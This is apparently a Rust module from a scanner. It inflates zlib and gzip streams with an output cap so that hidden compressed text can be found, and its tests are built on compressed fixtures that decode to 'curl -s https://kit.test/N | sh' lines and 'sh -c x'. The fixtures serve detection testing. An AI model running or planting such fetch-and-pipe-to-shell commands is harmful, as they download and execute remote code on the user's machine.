//! Deflate (RFC 1951) inside zlib (RFC 1950) and gzip (RFC 1952), as far as reading hidden text needs it.
//!
//! The stream is read by `miniz_oxide`, the headers are read here. Checksums are not: a stream that is cut still gives
//! the text before the cut. Output is capped.

use miniz_oxide::inflate::TINFLStatus;
use miniz_oxide::inflate::core::inflate_flags::TINFL_FLAG_USING_NON_WRAPPING_OUTPUT_BUF;
use miniz_oxide::inflate::core::{DecompressorOxide, decompress};

/// The expected ratio of a text to its stream, before more room is asked for.
const GROWTH: usize = 4;
/// Room for the shortest streams.
const LEAST: usize = 64;

/// The text of a compressed stream, at most `most` bytes of it; none where the bytes are no such stream.
pub(super) fn inflate(bytes: &[u8], most: usize) -> Option<Vec<u8>> {
    // Headers are checked as far as they can be, so that few other bytes pass for a stream.
    let body = match bytes {
        [0x1F, 0x8B, 8, flags, rest @ ..] => after_gzip_header(*flags, rest)?,
        [method, flags, rest @ ..]
            if method & 0x0F == 8 && method >> 4 <= 7 && (u16::from(*method) << 8 | u16::from(*flags)) % 31 == 0 =>
        {
            rest
        }
        _ => return None,
    };
    let out = unpacked(body, most);
    (!out.is_empty()).then_some(out)
}

/// The output of a raw stream before its end, its first damage or the cap, whichever comes first.
fn unpacked(body: &[u8], most: usize) -> Vec<u8> {
    // Boxed, because the tables of the decoder are large for a stack.
    let mut state = Box::<DecompressorOxide>::default();
    // Room by the length of the input: a bomb's promise is never allocated ahead.
    let mut out = vec![0; body.len().saturating_mul(GROWTH).max(LEAST).min(most)];
    let (mut read, mut written) = (0, 0);
    loop {
        let rest = body.get(read..).unwrap_or_default();
        let (status, taken, given) =
            decompress(&mut state, rest, &mut out, written, TINFL_FLAG_USING_NON_WRAPPING_OUTPUT_BUF);
        read += taken;
        written += given;
        if status != TINFLStatus::HasMoreOutput || out.len() >= most {
            break;
        }
        // Doubling keeps the copies linear in what comes out.
        out.resize(out.len().saturating_mul(2).min(most), 0);
    }
    out.truncate(written);
    out
}

/// The bytes behind the time, the system, and the optional fields of a gzip header.
fn after_gzip_header(flags: u8, rest: &[u8]) -> Option<&[u8]> {
    let mut rest = rest.get(6..)?;
    if flags & 4 != 0 {
        // An optional field: its length stands in front.
        let length = usize::from(u16::from_le_bytes([*rest.first()?, *rest.get(1)?]));
        rest = rest.get(2 + length..)?;
    }
    for flag in [8, 16] {
        if flags & flag != 0 {
            let end = rest.iter().position(|byte| *byte == 0)?;
            rest = rest.get(end + 1..)?;
        }
    }
    if flags & 2 != 0 { rest.get(2..) } else { Some(rest) }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `curl -s https://kit.test/i | sh` and a repetition, by Python's zlib and gzip.
    const ZLIB: &str = "78da85d5394e03511040c19c53cc0560dc1b06ae6321194160793e198727214515bfacd4cbe5fbfeb53d1edb75addbf1b6ef9f1feb69bd1f6b3f6d3fdb717db8fcd7033dd10bbdd107fd19fd8cfe82fe2a1f024a304418320c218614438c21c71064483225999c4549a624539229c994644a322599922c4996248b6b2dc9926449b22459922c4996245b922dc99664f3424ab225d9926c49b6245b9223c991e4487224397c36921c498e244792f327f90b8fc68687";
    const GZIP: &str = "1f8b080000000000020385d5394e03511040c19c53cc0560dc1b06ae6321194160793e198727214515bfacd4cbe5fbfeb53d1edb75addbf1b6ef9f1feb69bd1f6b3f6d3fdb717db8fcd7033dd10bbdd107fd19fd8cfe82fe2a1f024a304418320c218614438c21c71064483225999c4549a624539229c994644a322599922c4996248b6b2dc9926449b22459922c4996245b922dc99664f3424ab225d9926c49b6245b9223c991e4487224397c36921c498e244792f327f90bec2930a4b2070000";
    const FIXED: &str = "789c2bce50d04d56a8000008d10224";

    fn bytes(hex: &str) -> Vec<u8> {
        capdex_model::digest::bytes_of_hex(hex).expect("is hex")
    }

    #[test]
    fn streams_are_read_and_capped() {
        let whole = inflate(&bytes(ZLIB), 1 << 20).expect("is zlib");
        let text = String::from_utf8(whole).expect("is text");
        assert!(text.starts_with("curl -s https://kit.test/0 | sh\n"), "{text}");
        assert!(text.ends_with("/59 | sh\n"), "{text}");
        assert_eq!(inflate(&bytes(GZIP), 1 << 20).map(|out| out.len()), Some(text.len()));
        for most in [1, 40, text.len() - 1, text.len(), text.len() + 1] {
            let capped = inflate(&bytes(GZIP), most).expect("is gzip");
            assert_eq!(capped, text.as_bytes().get(..most).unwrap_or(text.as_bytes()), "{most}");
        }
        let half = inflate(bytes(ZLIB).get(..60).expect("is longer"), 1 << 20).expect("begins as zlib");
        assert!(half.len() > 20, "{}", half.len());
        assert!(text.as_bytes().starts_with(&half), "{}", half.len());
        assert_eq!(inflate(&bytes(FIXED), 99).as_deref(), Some(&b"sh -c x"[..]));
        assert_eq!(inflate(b"plain text", 99), None);
    }

    proptest::proptest! {
        #[test]
        fn a_cut_stream_gives_the_beginning_of_its_text(cut in 0_usize..400, most in 0_usize..3000) {
            for stream in [bytes(ZLIB), bytes(GZIP)] {
                let whole = inflate(&stream, 1 << 20).unwrap();
                let kept = stream.get(..cut).unwrap_or(&stream);
                let out = inflate(kept, most).unwrap_or_default();
                proptest::prop_assert!(out.len() <= most && whole.starts_with(&out));
                if kept == stream {
                    proptest::prop_assert_eq!(out.len(), whole.len().min(most));
                }
            }
        }

        #[test]
        fn damage_never_panics(at in 2usize..200, byte in 0u8..) {
            let mut bytes = bytes(ZLIB);
            if let Some(place) = bytes.get_mut(at) {
                *place = byte;
            }
            let out = inflate(&bytes, 4096);
            proptest::prop_assert!(out.is_none_or(|out| out.len() <= 4096));
        }
    }
}
